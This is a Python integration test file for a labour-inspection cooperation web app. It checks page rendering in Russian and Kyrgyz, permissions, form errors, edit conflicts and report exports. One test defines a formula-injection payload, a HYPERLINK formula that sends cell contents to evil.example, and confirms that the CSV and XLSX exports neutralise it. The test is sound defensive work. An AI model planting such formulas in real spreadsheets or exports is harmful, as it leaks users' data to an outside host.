"""The cooperation pages: every one renders for inspectors of both inspectorates, refused forms are
shown again with the errors and the text kept, officers reach only their employer's inspections."""

from __future__ import annotations

from datetime import date
from typing import Any

import pytest

from tests.integration.cooperation.conftest import inspection_json

API = "/api/v1/cooperation"
PAGES = [
    "/cooperation",
    "/cooperation/agreement",
    "/cooperation/inspections",
    "/cooperation/inspections/new",
    "/cooperation/orders",
    "/cooperation/orders?overdue=true",
    "/cooperation/violations",
    "/cooperation/norms",
    "/cooperation/requests",
    "/cooperation/requests/new",
    "/cooperation/complaints",
    "/cooperation/complaints/new",
    "/cooperation/plan",
    "/cooperation/joint",
    "/cooperation/joint/groups/new",
    "/cooperation/joint/plans/new",
    "/cooperation/joint/events/new",
    "/cooperation/joint/documents/new",
    "/cooperation/analysis",
    "/cooperation/analysis?by=norm",
    "/cooperation/analysis?by=month",
    "/cooperation/analysis?by=region",
]


@pytest.fixture
def records(
    login_as, employer, officer, state_inspector, tli, norm, agreement, make_accident
) -> dict[str, Any]:
    accident = make_accident(officer)["accident"]
    client = login_as(tli)
    inspection = client.post(
        f"{API}/inspections",
        json=inspection_json(employer.id, kind="joint", grounds="accident", accident_id=accident),
    ).json
    client.post(
        f"{API}/inspections/{inspection['id']}/violations",
        json={
            "norm_id": norm.id,
            "description": "Нет ограждений",
            "severity": "grave",
            "accident_id": accident,
        },
    )
    client.post(
        f"{API}/inspections/{inspection['id']}/orders",
        json={"requirement": "Установить ограждения", "issued_on": "2026-10-05", "due_on": "2026-11-01"},
    )
    request = client.post(
        f"{API}/requests",
        json={"kind": "cause_analysis", "subject": "Причины", "body": "b", "due_on": "2026-12-10"},
    ).json
    complaint = client.post(
        f"{API}/complaints",
        json={
            "employer_id": employer.id,
            "complainant": "А",
            "received_on": "2026-11-20",
            "review_due_on": "2026-12-04",
            "subject": "s",
            "text": "t",
        },
    ).json
    client.post(f"{API}/plan-proposals", json={"year": 2027, "employer_id": employer.id, "reason": "r"})
    return {"inspection": inspection["id"], "request": request["id"], "complaint": complaint["id"]}


@pytest.mark.parametrize("lang", ["ru", "ky"])
def test_every_page_renders_for_both_inspectorates_in_both_languages(
    client, login_as, records, state_inspector, tli, lang
):
    pages = [
        *PAGES,
        f"/cooperation/inspections/{records['inspection']}",
        f"/cooperation/requests/{records['request']}",
    ]
    for user in (tli, state_inspector):
        login_as(user)
        client.get(f"/lang/{lang}")
        for url in pages:
            response = client.get(url)
            assert response.status_code == 200, (user.inspectorate, url, response.status_code)
    assert (
        client.get(f"/cooperation/complaints/{records['complaint']}").status_code == 404
    )  # restricted: TLI's


def test_the_kyrgyz_pages_use_the_agreements_own_words(client, login_as, records, tli):
    login_as(tli)
    client.get("/lang/ky")

    body = client.get("/cooperation/requests").get_data(as_text=True)

    assert "Инспекция" in body
    assert "Кызмат" in body


def test_the_officer_sees_their_overdue_order_but_no_requests_or_complaints(
    client, login_as, records, officer
):
    login_as(officer)

    orders = client.get("/cooperation/orders?overdue=true")

    assert orders.status_code == 200
    assert 'data-state="overdue"' in orders.get_data(as_text=True)
    assert client.get(f"/cooperation/inspections/{records['inspection']}").status_code == 200
    for url in (
        "/cooperation/requests",
        "/cooperation/complaints",
        "/cooperation/plan",
        "/cooperation/joint",
    ):
        assert client.get(url).status_code == 403, url


def test_a_refused_inspection_form_is_shown_again_with_errors_and_text(client, login_as, employer, tli):
    login_as(tli)

    response = client.post(
        "/cooperation/inspections/new",
        data={
            "employer_id": employer.id,
            "kind": "unplanned",
            "grounds": "other",
            "inspectors": "Кыдыралиев",
            "starts_on": "2026-10-10",
            "ends_on": "2026-10-01",
            "subject": "Работа на высоте",
        },
    )
    body = response.get_data(as_text=True)

    assert response.status_code == 422
    assert 'data-field="ends_on"' in body
    assert "Работа на высоте" in body


def test_an_answer_posted_on_the_page_with_a_file_is_seen_by_the_asker(
    client, login_as, records, state_inspector, tli
):
    import io

    login_as(state_inspector)
    posted = client.post(
        f"/cooperation/requests/{records['request']}",
        data={
            "answer": "Причина — отсутствие ограждений",
            "version": "1",
            "files": (io.BytesIO(b"report"), "r.txt"),
        },
        content_type="multipart/form-data",
    )
    login_as(tli)
    page = client.get(f"/cooperation/requests/{records['request']}").get_data(as_text=True)

    assert posted.status_code == 302
    assert "Причина — отсутствие ограждений" in page
    assert "r.txt" in page


def test_the_joint_analysis_counts_and_exports_csv_xlsx_and_pdf(client, login_as, records, tli):
    login_as(tli)

    page = client.get("/cooperation/analysis?by=norm&date_from=2026-01-01&date_to=2026-11-26")
    csv = client.get("/cooperation/analysis.csv?by=norm&date_from=2026-01-01&date_to=2026-11-26")
    xlsx = client.get("/cooperation/analysis.xlsx?by=sector")
    pdf = client.get("/cooperation/analysis.pdf?by=region")
    bad = client.get("/cooperation/analysis?date_from=2026-13-01")

    assert page.status_code == 200
    import csv as csv_module

    rows = list(csv_module.reader(csv.get_data(as_text=True).lstrip("\ufeff").splitlines()))
    by_norm = {row[0]: row[1:] for row in rows[1:] if row}
    assert by_norm["Трудовой кодекс КР, ст. 213"] == ["1", "0", "0", "0", "0"]
    assert by_norm["—"] == ["0", "0", "0", "1", "0"]  # the order names no violation, so no norm
    assert xlsx.data[:2] == b"PK"
    assert pdf.data[:5] == b"%PDF-"
    assert bad.status_code == 422


def test_the_analysis_pdf_reads_in_the_users_language(client, login_as, records, tli):
    import io

    from pypdf import PdfReader

    login_as(tli)

    pdf = client.get("/cooperation/analysis.pdf?by=norm")
    text = PdfReader(io.BytesIO(pdf.data)).pages[0].extract_text()

    assert "Совместный анализ" in text
    assert "Трудовой кодекс КР, ст. 213" in text


def test_the_inspections_history_names_the_cooperation_actions(client, login_as, records, tli):
    login_as(tli)
    client.post(f"{API}/inspections/{records['inspection']}/signatures", json={"version": 1})

    page = client.get(f"/cooperation/inspections/{records['inspection']}").get_data(as_text=True)

    assert "<td>создано</td>" in page
    assert "<td>подписана</td>" in page


def test_an_unsigned_inspection_is_corrected_on_its_page_and_a_stale_form_is_refused(
    client, login_as, records, employer, tli
):
    login_as(tli)
    url = f"/cooperation/inspections/{records['inspection']}/edit"
    form = client.get(url).get_data(as_text=True)
    data = {
        **{
            k: v
            for k, v in inspection_json(employer.id, kind="joint", grounds="other").items()
            if v is not None
        },
        "subject": "Уточнённый предмет проверки",
        "version": "1",
    }

    saved = client.post(url, data=data)
    stale = client.post(url, data=data)

    assert 'value="joint"' in form or "joint" in form
    assert saved.status_code == 302
    assert "Уточнённый предмет проверки" in client.get(
        f"/cooperation/inspections/{records['inspection']}"
    ).get_data(as_text=True)
    assert stale.status_code == 409
    assert "Уточнённый предмет проверки" in stale.get_data(as_text=True)


def test_the_agreement_page_says_it_is_in_force_and_when_notice_is_due_and_records_a_notice(
    client, login_as, agreement, tli, admin
):
    login_as(tli)
    shown = client.get("/cooperation/agreement").get_data(as_text=True)
    login_as(admin)
    refused = client.post(
        "/cooperation/agreement",
        data={
            "notice_kind": "non_extension",
            "notice_by": "state",
            "notice_received_on": "2030-01-01",
            "version": "1",
        },
    )
    given = client.post(
        "/cooperation/agreement",
        data={
            "notice_kind": "non_extension",
            "notice_by": "state",
            "notice_received_on": "2026-11-20",
            "version": "1",
        },
    )
    after = client.get("/cooperation/agreement").get_data(as_text=True)

    assert "<dd data-notice-by>14.03.2027</dd>" in shown
    assert refused.status_code == 422
    assert 'data-field="notice_received_on"' in refused.get_data(as_text=True)
    assert given.status_code == 302
    assert "15.04.2027" in after  # ceases after the current term (art. 3.4)


def test_the_joint_analysis_exports_keep_formula_like_names_as_text(
    client, login_as, records, tli, monkeypatch
):
    import csv as csv_module
    import io

    from openpyxl import load_workbook

    from reports import cooperation as analysis

    hostile = '=HYPERLINK("http://evil.example/?"&A1,"click")'

    class Hostile(dict):
        def get(self, key, default=None):
            return hostile

    monkeypatch.setattr(analysis, "norm_labels", lambda s: Hostile())
    login_as(tli)
    query = "by=norm&date_from=2026-01-01&date_to=2026-11-26"

    csv = client.get(f"/cooperation/analysis.csv?{query}")
    xlsx = client.get(f"/cooperation/analysis.xlsx?{query}")

    rows = list(csv_module.reader(csv.get_data(as_text=True).lstrip("\ufeff").splitlines()))
    book = load_workbook(io.BytesIO(xlsx.data))
    cells = [c for sheet in book.worksheets for row in sheet.iter_rows(values_only=True) for c in row]
    assert "'" + hostile in [row[0] for row in rows if row]
    assert "'" + hostile in cells
    assert not [c for c in [*sum(rows, []), *cells] if isinstance(c, str) and c.startswith("=")]


@pytest.mark.parametrize("lang", ["ru", "ky"])
def test_the_joint_analysis_by_month_names_its_months_as_people_do(client, login_as, records, tli, lang):
    """Issue 14: "март 2026" (Kyrgyz in its own month names), not "2026-03", on the page, in the CSV and
    in the PDF; the workbook holds month cells (tests/integration/test_spreadsheets.py)."""
    import io
    import re

    from babel.dates import format_date
    from pypdf import PdfReader

    login_as(tli)
    client.get(f"/lang/{lang}")
    query = "by=month&date_from=2026-01-01&date_to=2026-11-26"

    page = client.get(f"/cooperation/analysis?{query}").get_data(as_text=True)
    table = page.split('id="analysis"', 1)[1].split("</table>", 1)[0]
    csv = client.get(f"/cooperation/analysis.csv?{query}").get_data(as_text=True)
    pdf = PdfReader(io.BytesIO(client.get(f"/cooperation/analysis.pdf?{query}").data))
    text = " ".join(p.extract_text() for p in pdf.pages)
    months = [format_date(date(2026, m, 1), "LLLL yyyy", locale=lang) for m in range(1, 12)]

    iso_month = re.compile(r"\b\d{4}-\d{2}\b")
    for shown in (table, csv, text):
        assert not iso_month.search(shown)
        assert any(m in shown for m in months), shown[:400]
    assert "<td>" + months[10] + "</td>" in table  # November, when the records were made
